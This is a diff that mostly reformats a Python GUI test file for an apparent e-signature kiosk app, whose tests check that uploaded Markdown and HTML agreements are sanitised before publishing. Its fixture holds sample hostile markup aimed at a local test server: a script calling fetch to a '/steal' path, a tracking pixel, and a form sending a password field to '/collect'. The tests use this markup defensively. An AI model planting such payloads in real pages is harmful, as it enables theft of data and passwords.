@@ -79,8 +79,8 @@ def hostile_markdown(web: CountingServer) -> str:
         f"# Employee Confidentiality Agreement\n\n{NEW_WORDS}, with **bold** words.\n\n"
         f"<script>fetch('{web.url}/steal')</script>\n\n"
         f"![logo]({web.url}/logo.png)\n\n"
-        f"<img src=\"{web.url}/pixel.gif\" alt=\"tracker\">\n\n"
-        f"<form action=\"{web.url}/collect\"><input name=\"password\"></form>\n\n"
+        f'<img src="{web.url}/pixel.gif" alt="tracker">\n\n'
+        f'<form action="{web.url}/collect"><input name="password"></form>\n\n'
         f"## 4. Third Party Information\n\n{CLAUSE}\n\n- Keep secrets secret.\n"
     )
 
@@ -182,8 +182,11 @@ def test_publishing_a_markdown_file_shows_it_sanitised_then_lists_the_new_versio
     # The clause is framed and shaded, as on the kiosk's agreement page.
     clause_frame = dialog.preview.document().find("Third Party Information.").currentFrame()
     assert clause_frame != dialog.preview.document().rootFrame()
-    assert dialog.removed_lines == ["Forms and their fields: 1", "Images: 2",
-                                    "Scripts (program code): 1"]
+    assert dialog.removed_lines == [
+        "Forms and their fields: 1",
+        "Images: 2",
+        "Scripts (program code): 1",
+    ]
     assert dialog.version.value() == 2 and dialog.version.accessibleName() == "Version"
     assert dialog.title.text() == SHIPPED.title
     assert dialog.preview.accessibleName() == f"{SHIPPED.title}, version 2"
@@ -192,8 +195,7 @@ def test_publishing_a_markdown_file_shows_it_sanitised_then_lists_the_new_versio
     qtbot.mouseClick(dialog.confirm, Qt.MouseButton.LeftButton)
     assert not dialog.isVisible()
     assert [cell(tab, row, COLUMN_VERSION) for row in range(2)] == ["2", "1"]
-    assert [cell(tab, row, COLUMN_KIOSK) for row in range(2)] == [SHOWN_AT_KIOSK,
-                                                                  EARLIER_VERSION]
+    assert [cell(tab, row, COLUMN_KIOSK) for row in range(2)] == [SHOWN_AT_KIOSK, EARLIER_VERSION]
     assert [cell(tab, row, COLUMN_SIGNATURES) for row in range(2)] == ["0", "1"]
     published = max(list_versions(store.sessions), key=lambda v: v.version)
     assert cell(tab, 0, COLUMN_SHA256) == published.sha256
@@ -225,8 +227,9 @@ def test_cancel_in_the_preview_stores_nothing(qtbot, application, store, tmp_pat
     source = write(tmp_path, "agreement-2027.md", hostile_markdown(web))
     tab = make_tab(qtbot, store, [source])
     dialog = open_preview(qtbot, tab)
-    cancel = next(b for b in dialog.findChildren(type(dialog.confirm))
-                  if b.accessibleName() == "Cancel")
+    cancel = next(
+        b for b in dialog.findChildren(type(dialog.confirm)) if b.accessibleName() == "Cancel"
+    )
     qtbot.mouseClick(cancel, Qt.MouseButton.LeftButton)
     assert not dialog.isVisible() and tab.publish_dialog is None
     assert stored_versions(store) == [1]
@@ -240,13 +243,19 @@ def test_choosing_no_file_changes_nothing(qtbot, application, store):
     assert stored_versions(store) == [1]
 
 
-@pytest.mark.parametrize("name, content, says", [
-    ("no-clause.md", "# Agreement\n\nNothing about third parties.\n",
-     'no paragraph beginning "Third Party Information."'),
-    ("huge.md", b"Third Party Information. " + b"x" * (300 * 1024), "larger than 200 KB"),
-    ("binary.html", b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe", "not UTF-8"),
-    ("agreement.docx", f"{CLAUSE}\n", "neither Markdown (.md) nor HTML (.html)"),
-])
+@pytest.mark.parametrize(
+    "name, content, says",
+    [
+        (
+            "no-clause.md",
+            "# Agreement\n\nNothing about third parties.\n",
+            'no paragraph beginning "Third Party Information."',
+        ),
+        ("huge.md", b"Third Party Information. " + b"x" * (300 * 1024), "larger than 200 KB"),
+        ("binary.html", b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe", "not UTF-8"),
+        ("agreement.docx", f"{CLAUSE}\n", "neither Markdown (.md) nor HTML (.html)"),
+    ],
+)
 def test_a_refused_file_says_why_in_one_sentence_and_stores_nothing(
     qtbot, application, store, tmp_path, name, content, says
 ):
@@ -299,8 +308,9 @@ def test_the_same_text_again_is_refused_in_the_preview(qtbot, application, store
     dialog.reject()
 
 
-def test_locking_closes_an_open_preview_and_clears_the_list(qtbot, application, store, tmp_path,
-                                                            web):
+def test_locking_closes_an_open_preview_and_clears_the_list(
+    qtbot, application, store, tmp_path, web
+):
     tab = make_tab(qtbot, store, [write(tmp_path, "v2.md", hostile_markdown(web))])
     dialog = open_preview(qtbot, tab)
     tab.wipe()
@@ -315,8 +325,10 @@ def test_the_preview_viewer_fetches_nothing_even_from_unsanitised_html(qtbot, ap
     from zzsign.domain.documents import Agreement
     from zzsign.views.documents import document_viewer
 
-    raw = (f"# Raw\n\n<img src=\"{web.url}/pixel.gif\">\n\n![logo]({web.url}/logo.png)\n\n"
-           f"<p style=\"background: url({web.url}/bg.png)\">x</p>\n\n{CLAUSE}\n")
+    raw = (
+        f'# Raw\n\n<img src="{web.url}/pixel.gif">\n\n![logo]({web.url}/logo.png)\n\n'
+        f'<p style="background: url({web.url}/bg.png)">x</p>\n\n{CLAUSE}\n'
+    )
     viewer = document_viewer(Agreement.from_text(9, "Raw", raw), "Raw")
     qtbot.addWidget(viewer)
     viewer.resize(700, 500)
@@ -373,7 +385,20 @@ def test_after_hr_publishes_and_locks_the_next_hire_reads_the_new_version(
 
 
 def test_removals_are_counted_in_plain_words():
-    assert plain_removals(["<script> ×2", "<noscript>", "<img>", "image ×3", "<blink> tag "
-                           "(its text is kept)", "event attribute (on…)", "something new"]) == [
-        "Scripts (program code): 3", "Images: 4", "Other formatting codes (the text is kept): 1",
-        "Actions that run on a click or when the page loads: 1", "something new: 1"]
+    assert plain_removals(
+        [
+            "<script> ×2",
+            "<noscript>",
+            "<img>",
+            "image ×3",
+            "<blink> tag (its text is kept)",
+            "event attribute (on…)",
+            "something new",
+        ]
+    ) == [
+        "Scripts (program code): 3",
+        "Images: 4",
+        "Other formatting codes (the text is kept): 1",
+        "Actions that run on a click or when the page loads: 1",
+        "something new: 1",
+    ]
